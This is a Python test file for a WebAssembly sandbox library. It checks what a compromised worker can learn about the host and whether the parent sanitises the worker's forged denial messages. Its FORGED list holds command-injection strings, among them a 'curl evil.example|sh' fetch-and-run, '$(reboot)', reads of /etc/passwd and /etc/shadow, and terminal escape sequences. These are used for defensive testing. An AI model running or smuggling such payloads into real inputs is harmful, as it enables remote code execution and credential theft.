"""Facts about the machine that a compromised worker can learn, and how its parent treats its messages.

SECURITY.md lists these facts; the tests here check that the list is complete.
"""

from __future__ import annotations

import errno
import json
import os
import shlex
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from aegis import FilesystemCapability, NetworkCapability, WorkerCrashed
from tests.guests.catalogue import ROOT
from tests.isolation.takeover import captive, environment

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="workers need Linux")

FILE = """(module
  (import "wasi_snapshot_preview1" "path_filestat_get" (func $stat (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1) (data (i32.const 0) "file")
  (func (export "inode") (result i64)
    (drop (call $stat (i32.const 3) (i32.const 0) (i32.const 0) (i32.const 4) (i32.const 64)))
    (i64.load (i32.const 72)))
  (func (export "changed") (result i64)
    (drop (call $stat (i32.const 3) (i32.const 0) (i32.const 0) (i32.const 4) (i32.const 64)))
    (i64.load (i32.const 112))))"""
TIME = 10**18 + 123_456_789
CLOCK = """(module
  (import "wasi_snapshot_preview1" "clock_time_get" (func $now (param i32 i64 i32) (result i32)))
  (memory (export "memory") 1)
  (func (export "now") (result i64)
    (drop (call $now (i32.const 0) (i64.const 1) (i32.const 8))) (i64.load (i32.const 8))))"""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A directory with a file in it, and a file beside it."""
    (tmp_path / "one").mkdir()
    (tmp_path / "one" / "file").write_text("text")
    os.utime(tmp_path / "one" / "file", ns=(TIME, TIME))
    (tmp_path / "secret").write_text("secret")
    return tmp_path


def fields(path: Path) -> list[int]:
    status = path.stat()
    return [status.st_ino, status.st_dev, status.st_nlink, status.st_uid, status.st_mtime_ns, status.st_ctime_ns]


# -- files ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("write", [False, True])
def test_of_granted_files_a_worker_sees_the_real_status_but_not_when_they_were_made(tree: Path, write: bool) -> None:
    """The guest sees neither: inode numbers are replaced by counters, times are truncated to seconds."""
    grant = FilesystemCapability.read_write if write else FilesystemCapability.read_only
    with captive(FILE, filesystem=grant(f"{tree / 'one'}::/data")) as attacker:
        found = attacker("status", names=["file"])
        assert attacker.sandbox.call("inode") not in (0, (tree / "one" / "file").stat().st_ino)
        assert attacker.sandbox.call("changed") == 10**18
    assert found["granted"] == [fields(tree / "one"), fields(tree / "one" / "file")]
    assert found["born"] == [errno.EPERM, errno.EPERM]


@pytest.mark.parametrize("cached", [False, True])
@pytest.mark.parametrize("network", [None, NetworkCapability(allow=["127.0.0.1:9"], listen=["127.0.0.1:9"])])
def test_nothing_that_a_worker_holds_beside_its_grants_is_a_file_with_a_name(
    tree: Path, cached: bool, network: NetworkCapability | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Except for its own code in the cache, which it holds for reading."""
    cache = tree / "cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    granted = FilesystemCapability.read_write(f"{tree / 'one'}::/data")
    with captive(filesystem=granted, network=network, cache=cached or False) as attacker:
        held = attacker("status", names=[])["held"]
        assert attacker("status", names=[])["born"] == [errno.EPERM, errno.EPERM]
    memory = os.memfd_create("device")
    devices = {os.fstat(memory).st_dev}
    os.close(memory)
    code = {(path.stat().st_ino, path.stat().st_dev) for path in cache.rglob("*") if path.is_file()}
    named = [
        (inode, device)
        for mode, inode, device in held
        if stat.S_ISREG(mode) and device not in devices and (inode, device) not in code
    ]
    assert named == []
    assert {stat.S_IFMT(mode) for mode, _, _ in held} <= {stat.S_IFREG, stat.S_IFCHR, stat.S_IFSOCK}


def test_a_worker_without_files_sees_the_status_of_none() -> None:
    with captive() as attacker:
        assert attacker("status", names=[])["granted"] == []
        assert attacker("status", names=[])["born"] == [errno.EPERM, errno.EPERM]


# -- the clock -----------------------------------------------------------------------------------------------


def test_a_worker_reads_the_machines_clock_though_its_guest_has_another() -> None:
    """A limit of the isolation: a process reads the clock from its own memory, without a system call."""
    with captive(CLOCK) as attacker:
        found = attacker("clock_and_chance")
        assert attacker.sandbox.call("now") < 10**9 * 86_400, "the guest's clock starts at the epoch"
        assert abs(found["now"] - time.time()) < 600
        assert attacker("clock_and_chance")["chance"] != found["chance"]


def test_a_worker_learns_the_kernels_release_but_not_the_machines_name() -> None:
    with captive() as attacker:
        assert attacker("machine") == ["worker", "worker", "worker", os.uname().release]
    assert os.uname().nodename != "worker", "the name of the machine is as it was"


# -- what it says -------------------------------------------------------------------------------------------


FORGED: list[list[Any]] = [
    ["filesystem", "write", "/data/in.csv; curl evil.example|sh; #", "/data/in.csv; curl evil.example|sh; #"],
    ["filesystem", "write", "/data/$(reboot)", "/data/`reboot`"],
    ["filesystem", "write", "/data/../../etc/passwd", "/data/../../etc/passwd"],
    ["filesystem", "open", "/etc/shadow", "/etc/shadow"],
    ["filesystem", "write", "/data/\x1b]0;title\x07\r\nroot#", "/data/\x9b31m"],
    ["network", "connect to", "tcp://a.example:80; reboot", "tcp://a.example:80; reboot"],
    ["network", "connect to", "tcp://a.example:80", "tcp://public:*"],
    ["network", "connect to", "tcp://a.example:80", "0.0.0.0/0:*"],
    ["network", "listen at", "tcp://127.0.0.1:80", "--allow-write /"],
    ["clock", "read", "clock; reboot", "clock; reboot"],
    ["random", "read", "random", "$(reboot)"],
]


@pytest.mark.parametrize("words", FORGED, ids=str)
def test_a_forged_denial_is_shown_without_a_command_that_the_worker_wrote(words: list[Any], tree: Path) -> None:
    capability, action, target, remedy = words
    events: list[Any] = []
    granted = FilesystemCapability.read_only(f"{tree / 'one'}::/data")
    message = ["decided", capability, action, target, False, "the \x1brule\n", remedy]
    with captive(filesystem=granted, subscribers=[events.append]) as attacker:
        attacker("say", messages=[message])
    (shown,) = [event for event in events if event.kind == "capability_checked" and not event.allowed]
    assert shown.remedy in ("", f"--allow-{capability}", *safe_options(tree / "one"))
    assert shlex.split(shown.remedy, comments=True) == shown.remedy.split(), "one flag and one value"
    for text in (shown.target, shown.rule, shown.remedy):
        assert text.isprintable()


def safe_options(folder: Path) -> list[str]:
    """Return the options that name an entry of the policy, or the one host of a denied connection."""
    return [f"--allow-write {folder}::/data", "--allow-net tcp://a.example:80"]


LIES: list[list[Any]] = [
    ["decided", "root", "open", "/", False, "", ""],
    ["decided", "filesystem", "execute", "/", False, "", ""],
    ["decided", "filesystem", "open", "/", "no", "", ""],
    ["decided", "filesystem", "open", "/", False, ""],
    ["decided", "filesystem", "open", ["/"], False, "", ""],
    ["log", 5, "text"],
    ["log", "info"],
    ["called", "m", "f", -1.0, None],
    ["called", "m", "f", float("nan"), None],
    ["I", "this"],
    ["decide"],
    [],
]


@pytest.mark.parametrize("message", LIES, ids=str)
def test_a_message_that_no_worker_sends_ends_it(message: list[Any]) -> None:
    with (
        captive(subscribers=[lambda event: None]) as attacker,
        pytest.raises(WorkerCrashed, match="broke the protocol"),
    ):
        attacker("say", messages=[message])


# -- a parent without standard streams ------------------------------------------------------------------------


HELD = """
import json, os, sys
from tests.isolation.takeover import GUEST, take_over
take_over()
from aegis import Aegis
from aegis.isolation.parent.pool import fork_server
aegis = Aegis(isolation=True, cache=False, timeout="20s")
with aegis.sandbox(aegis.load_wat(GUEST)) as box:
    box.call("held")
    server = fork_server(aegis._isolated.pool._stack)
    folder = f"/proc/{server._process.pid}/fd"
    links = [os.readlink(f"{folder}/{name}") for name in os.listdir(folder)]
    found = {"held": json.loads(box.stderr)["value"], "server": links, "stdout": box.stdout.decode()}
with open(sys.argv[1], "w") as file:
    json.dump(found, file)
"""


@pytest.mark.usual(every=3)
@pytest.mark.parametrize("redirections", ["", "<&-", ">&-", "2>&-", "<&- >&-", "<&- 2>&-", ">&- 2>&-", "<&- >&- 2>&-"])
def test_no_worker_holds_a_socket_of_the_fork_server_whatever_streams_the_parent_lacks(
    tmp_path: Path, redirections: str
) -> None:
    report = tmp_path / "report"
    done = subprocess.run(
        ["sh", "-c", f'exec "$@" {redirections}', "sh", sys.executable, "-c", HELD, str(report)],
        stdin=subprocess.DEVNULL, capture_output=True, timeout=60, env=environment(), cwd=ROOT, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    found = json.loads(report.read_text())
    sockets = [f"socket:[{each['inode']}]" for each in found["held"] if stat.S_ISSOCK(each["mode"])]
    assert len(sockets) >= 2
    assert not set(sockets) & set(found["server"])
    assert [each["number"] for each in found["held"]][:3] == [0, 1, 2]
    assert all(not stat.S_ISSOCK(each["mode"]) for each in found["held"][:3])
    assert found["stdout"] == "guest\n"
